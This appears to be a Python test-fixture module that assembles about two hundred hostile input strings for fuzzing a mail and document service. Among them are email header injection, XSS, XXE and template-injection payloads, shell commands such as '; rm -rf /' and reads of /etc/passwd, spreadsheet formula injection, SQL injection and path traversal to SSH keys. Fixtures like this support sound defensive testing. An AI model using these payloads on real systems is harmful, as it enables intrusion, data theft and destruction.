"""Two hundred texts that somebody may type as a name, a subject or a file's name to do harm.

Each aims at a place where a text could be taken for something else: a header, a line, markup of
one of our languages, a formula, a path, a terminal's command, or a direction to read in.
"""

import base64
from itertools import product

EVIL = "victim@evil.example"
SECRET = "/etc/passwd"

_HEADERS = (f"Bcc: {EVIL}", f"Cc: {EVIL}", "Subject: Gagné", "Content-Type: text/html", "X-A: b")
_LINE_ENDS = ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\v", "\f", "\r\n\r\n", "\x00\n")


def _encoded_words() -> list[str]:
    """RFC 2047: decoded by whoever reads headers too eagerly, line ends included."""
    texts = []
    for header in _HEADERS:
        raw = f"Anne\r\n{header}".encode()
        quoted = "".join(f"={byte:02X}" for byte in raw)
        texts += [
            f"=?utf-8?q?{quoted}?=",
            f"=?utf-8?b?{base64.b64encode(raw).decode()}?=",
            f"Mairie =?iso-8859-1?Q?=0A{header.replace(' ', '_')}?= de Givors",
        ]
    return [
        *texts,
        "=?utf-8?q?",
        "=?",
        "?=",
        "=?utf-8?q?=?=?=",
        "=?us-ascii?q?a?= =?us-ascii?q?b?=",
    ]


def _line_ends() -> list[str]:
    """Bare ones, in each way in which a line may end."""
    return [f"Anne{end}{header}" for end, header in product(_LINE_ENDS, _HEADERS[:3])]


def _addresses() -> list[str]:
    """What splits a header's mailbox in two."""
    return [
        f'Anne" <{EVIL}>, "',
        f"Anne <{EVIL}>",
        f"Anne, {EVIL}",
        f'Anne\\" <{EVIL}>',
        f"(Anne) {EVIL};",
        f"undisclosed: {EVIL};",
        f'"{EVIL}',
        "@",
        "<>",
    ]


def _markup() -> list[str]:
    """HTML, and what its readers take for it."""
    return [
        "<script>alert(1)</script>",
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "</bdi></dd></dl></main>",
        "<!-- ",
        "--> <b>gras</b>",
        "<![CDATA[ x ]]>",
        '<a href="javascript:alert(1)">ici</a>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"><button>Valider</button></form>',
        "<style>*{display:none}</style>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '" autofocus onfocus=alert(1) x="',
        "' onmouseover='alert(1)",
        "` onerror=alert(1) `",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#x3c;script&#x3e;",
        "&amp;amp;",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "\ufeff<script>alert(1)</script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<mj-raw><script>alert(1)</script></mj-raw>",
        '</mj-text><mj-image src="https://evil.example/x.png" />',
        f'<mj-include path="{SECRET}" />',
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file://{SECRET}">]><x>&y;</x>',
    ]


def _templates() -> list[str]:
    """What template languages and formatters would work out."""
    return [
        "{{7*7}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for x in range(9) %}x{% endfor %}",
        f"{{% include '{SECRET}' %}}",
        "{# rien #}",
        "{{ config }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0.__class__}",
        "%(number)s",
        "%(nothing)s",
        "%s%s%s%n",
        "%",
        "100 %d",
        "{page} {pages}",
        "$(id)",
        "`id`",
        "; rm -rf /",
        "| cat " + SECRET,
        "$HOME",
    ]


def _typst() -> list[str]:
    """What Typst and its kin would run or read."""
    return [
        f'#image("{SECRET}")',
        f'#read("{SECRET}")',
        f'#include "{SECRET}"',
        '#import "@preview/cetz:0.3.4": *',
        "#while true {}",
        "#{7*7}",
        "$ 7 times 7 $",
        "= Titre",
        "*gras* _italique_ `code`",
        "// commentaire",
        "/* sans fin",
        "#set page(width: 0pt)",
        "#panic()",
        ']#image("x")[',
        '") #read("x") ("',
        "<étiquette> @référence",
        "\\u{41} \\n \\",
        '#link("https://evil.example")[ici]',
        f"\\input{{{SECRET}}}",
        "%PDF-1.7 (x) Tj /JS",
        ") Tj ET BT (",
    ]


def _formulas() -> list[str]:
    """What a spreadsheet would work out once exported."""
    return [
        "=cmd",
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        '=HYPERLINK("https://evil.example","ici")',
        "\t=1+1",
        '";=1+1;"',
        '"a","b"',
        "a;b;c",
    ]


def _queries() -> list[str]:
    """SQL and what it is made of."""
    return [
        "' OR '1'='1",
        "'; DROP TABLE requests; --",
        "\\'; SELECT pg_read_file('/etc/passwd'); --",
        "$$ || pg_sleep(9) || $$",
        "%' ESCAPE '\\",
        "Robert'); DELETE FROM mails;--",
        "NULL",
        "null",
        "undefined",
        "true",
    ]


def _terminals() -> list[str]:
    """ANSI sequences, and other characters that are commands."""
    return [
        "\x1b[31mrouge\x1b[0m",
        "\x1b]0;titre\x07",
        "\x1b[2J\x1b[H",
        "\x9b31m",
        "a\x08\x08b",
        "a\x00b",
        "\x00",
        "a\x7fb",
        "\x01\x02\x03",
        "bip\x07",
    ]


def _directions() -> list[str]:
    """Marks that turn what stands around them."""
    return [
        "\u202egnp.erutcaf",
        "\u202dabc\u202c",
        "\u2066abc",
        "\u2067abc\u2069\u2069",
        "\u2068",
        "\u200f\u200e\u061c",
        "\u202a\u202b\u202c",
        "מרכז העיר",
        "بلدية المدينة",
        "abc \u202e321 \u2066x",
    ]


def _unseen() -> list[str]:
    """What is not seen, looks like something else, or is put together."""
    return [
        "\u200b",
        "\u200b.htaccess",
        "\u00ad\u00ad\u00ad",
        "a\u200db\u200cc",
        "\ufeffGivors",
        "\ufffe\uffff",
        "\ue000\uf8ff",
        "\U000f0000\U0010ffff",
        "\u3164",
        "Z" + "\u0301\u0316\u0334" * 60,
        "e\u0301" * 40,
        "\u0301\u0301",
        "👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 🇫🇷",
        "😀" * 50,
        "pаypal (а cyrillique)",
        "ﬁ ﬀ ½ ①",
        "\u1100\u1161\u11a8",
        "日本語の文章",
        "\U0001d54f\U0001d4e8",
        "ᚠᛇᚻ",
        "\u0e01\u0e33\u0e49" * 20,
        "\ud7fb\ua9c5",
    ]


def _paths() -> list[str]:
    """Names of files that are more than names."""
    return [
        "../../../../etc/passwd",
        "..\\..\\windows\\system32",
        "/etc/passwd",
        "C:\\autoexec.bat",
        "con.txt",
        ".htaccess",
        "photo.png\x00.exe",
        "photo.png.exe",
        "facture\u202efdp.exe",
        "a/b/c.png",
        "file:///etc/passwd",
        "~root/.ssh/id_rsa",
        "...",
        ".",
        "-rf",
        'a"; filename="b.exe',
        "a\r\nContent-Type: text/html\r\n\r\n<script>",
        "b.png; filename*=UTF-8''evil.exe",
        " .png ",
        "%2e%2e%2fetc%2fpasswd",
    ]


def _long() -> list[str]:
    """A thousand characters, of several kinds."""
    return [
        "x" * 1000,
        "x " * 500,
        "é" * 1000,
        "\U0001f600" * 1000,
        "日" * 1000,
        "ا" * 1000,
        "<" * 1000,
        "{{" * 500,
        "\u202e" * 1000,
        "a\n" * 500,
        "\u0301" * 1000,
        "=?" * 500,
        "&" * 1000,
        "\\" * 1000,
        ("mot " * 20 + "\n") * 12,
    ]


HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *_encoded_words(),
            *_line_ends(),
            *_addresses(),
            *_markup(),
            *_templates(),
            *_typst(),
            *_formulas(),
            *_queries(),
            *_terminals(),
            *_directions(),
            *_unseen(),
            *_paths(),
            *_long(),
        ]
    )
)
"""All of them, each once."""
